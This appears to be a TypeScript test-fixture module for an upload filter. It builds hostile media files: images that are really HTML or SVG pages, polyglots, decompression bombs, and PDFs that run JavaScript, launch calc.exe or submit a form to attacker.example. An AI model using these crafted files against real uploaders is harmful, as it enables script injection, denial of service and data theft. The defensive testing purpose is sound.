import { deflateSync, gzipSync } from 'node:zlib';
import type { Attack } from './attacks.ts';
import { jpegOf, pngChunk, pngOf } from './pictures.ts';

const latin = (text: string) => Buffer.from(text, 'latin1');
const script = '<script>alert(1)</script>';
const bomb = () => deflateSync(Buffer.alloc(64 * 1024 * 1024));

/** A JPEG that says it has 2,000 by 2,000 points, whatever it has. */
function enlarged(jpeg: Buffer): Buffer {
	const frame = jpeg.indexOf(Buffer.of(0xff, 0xc0));
	jpeg.writeUInt16BE(2000, frame + 5);
	jpeg.writeUInt16BE(2000, frame + 7);
	return jpeg;
}

const files: readonly [
	what: string,
	name: string,
	bytes: Uint8Array,
	refused?: Attack['refused'],
][] = [
	['a page named like a picture', 'x.png', latin(`<!doctype html>${script}`), 'media-bytes-differ'],
	['a script named like a picture', 'x.jpg', latin('alert(1)'), 'media-bytes-differ'],
	['a GIF named like a PNG', 'x.png', latin('GIF89a\x01\0\x01\0'), 'media-bytes-differ'],
	['a GIF that is a script too', 'x.gif', latin('GIF89a=1;alert(1)'), 'media-kind'],
	['a PNG named like a JPEG', 'x.jpg', pngOf(), 'media-bytes-differ'],
	[
		'a graphic named like a picture',
		'x.webp',
		latin('<svg onload="alert(1)"/>'),
		'media-bytes-differ',
	],
	['a program named like a document', 'x.pdf', latin('MZ\x90\0'), 'media-bytes-differ'],
	[
		'a picture of 900 million points in 100 bytes',
		'x.png',
		pngOf({ width: 30_000, height: 30_000 }),
		'media-too-many-points',
	],
	[
		'a picture as wide as numbers go',
		'x.png',
		pngOf({ width: 0xffffffff, height: 1 }),
		'media-too-many-points',
	],
	['a picture without points', 'x.png', pngOf({ width: 0 }), 'media-bytes-differ'],
	['a picture that is cut off', 'x.png', pngOf().subarray(0, 40), 'media-bytes-differ'],
	[
		'a picture whose part says it is longer than the file',
		'x.png',
		Buffer.concat([pngOf().subarray(0, 33), Buffer.of(0x7f, 0xff, 0xff, 0xff), latin('IDAT')]),
		'media-bytes-differ',
	],
	[
		'a picture whose points cannot be unpacked',
		'x.png',
		pngOf({}, pngChunk('IDAT', latin('no points'))),
		'media-bytes-differ',
	],
	[
		'a picture with fewer points than it says',
		'x.png',
		pngOf({ width: 800, height: 600 }),
		'media-bytes-differ',
	],
	[
		'a photograph with fewer points than it says',
		'x.jpg',
		enlarged(jpegOf()),
		'media-bytes-differ',
	],
	[
		'a picture of its first bytes alone',
		'x.jpg',
		Buffer.of(0xff, 0xd8, 0xff),
		'media-bytes-differ',
	],
	[
		'a picture with a text that opens to 64 MB',
		'x.png',
		pngOf({}, pngChunk('zTXt', Buffer.concat([latin('Comment\0\0'), bomb()]))),
		'media-metadata',
	],
	[
		'a picture with colours that open to 64 MB',
		'x.png',
		pngOf({}, pngChunk('iCCP', Buffer.concat([latin('x\0\0'), bomb()]))),
		'media-metadata',
	],
	[
		'a picture with a comment',
		'x.png',
		pngOf({}, pngChunk('tEXt', latin(`Comment\0${script}`))),
		'media-metadata',
	],
	[
		'a picture with a time',
		'x.png',
		pngOf({}, pngChunk('tIME', Buffer.alloc(7))),
		'media-metadata',
	],
	['a picture that moves', 'x.png', pngOf({}, pngChunk('acTL', Buffer.alloc(8))), 'media-metadata'],
	[
		'a picture with a page behind its end',
		'x.png',
		Buffer.concat([pngOf(), latin(script)]),
		'media-metadata',
	],
	[
		'a picture that is an archive too',
		'x.png',
		Buffer.concat([pngOf(), latin('PK\x03\x04')]),
		'media-metadata',
	],
	[
		'a photograph with its place',
		'x.jpg',
		jpegOf([0xe1, latin('Exif\0\0MM\0*')]),
		'media-metadata',
	],
	[
		'a photograph with XMP',
		'x.jpg',
		jpegOf([0xe1, latin('http://ns.adobe.com/xap/1.0/\0<x/>')]),
		'media-metadata',
	],
	[
		'a photograph with what newspapers note',
		'x.jpg',
		jpegOf([0xed, latin('Photoshop 3.0\0')]),
		'media-metadata',
	],
	['a photograph with a comment', 'x.jpg', jpegOf([0xfe, latin(script)]), 'media-metadata'],
	[
		'a photograph that is a script too',
		'x.jpg',
		jpegOf([0xe0, latin('/*JFIF\0')]),
		'media-metadata',
	],
	[
		'a photograph with a second one behind it',
		'x.jpg',
		Buffer.concat([jpegOf(), jpegOf()]),
		'media-metadata',
	],
	[
		'a compressed graphic under the name of a graphic',
		'x.svg',
		gzipSync('<svg xmlns="http://www.w3.org/2000/svg"/>'),
		'media-bytes-differ',
	],
	[
		'a graphic that opens to 64 MB',
		'x.svgz',
		gzipSync(Buffer.alloc(64 * 1024 * 1024)),
		'media-kind',
	],
	[
		'a graphic in UTF-16',
		'x.svg',
		Buffer.from('\ufeff<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', 'utf16le'),
		'media-bytes-differ',
	],
	[
		'a document that runs a script',
		'x.pdf',
		latin('%PDF-1.7\n1 0 obj <</S/JavaScript/JS(app.alert(1))>> endobj'),
		'media-unsafe',
	],
	[
		'a document that hides a script',
		'x.pdf',
		latin('%PDF-1.7\n1 0 obj <</S/#4aava#53cript/#4aS(app.alert(1))>> endobj'),
		'media-unsafe',
	],
	[
		'a document that starts a program',
		'x.pdf',
		latin('%PDF-1.7\n1 0 obj <</S/Launch/F(calc.exe)>> endobj'),
		'media-unsafe',
	],
	[
		'a document that brings a file along',
		'x.pdf',
		latin('%PDF-1.7\n1 0 obj <</Type/EmbeddedFile>> endobj'),
		'media-unsafe',
	],
	[
		'a document that sends a form',
		'x.pdf',
		latin('%PDF-1.7\n1 0 obj <</S/SubmitForm/F(https://attacker.example)>> endobj'),
		'media-unsafe',
	],
	[
		'a page that begins like a document',
		'x.pdf',
		latin(`<html>%PDF-1.7 ${script}`),
		'media-bytes-differ',
	],
	['a document with a page behind its end', 'x.pdf', latin(`%PDF-1.7\n%%EOF\n${script}`)],
	[
		'a picture too large to load',
		'x.pdf',
		Buffer.concat([latin('%PDF-1.7'), Buffer.alloc(11 * 1024 * 1024)]),
		'file-too-large',
	],
	['an ordinary picture', 'x.png', pngOf()],
	['an ordinary photograph', 'x.jpg', jpegOf()],
];

/** Attacks by files, which cannot be written as texts. */
export const mediaAttacks: readonly Attack[] = files.map(([what, path, bytes, refused]) => ({
	what,
	place: 'media',
	text: '',
	path,
	bytes,
	...(refused && { refused }),
}));
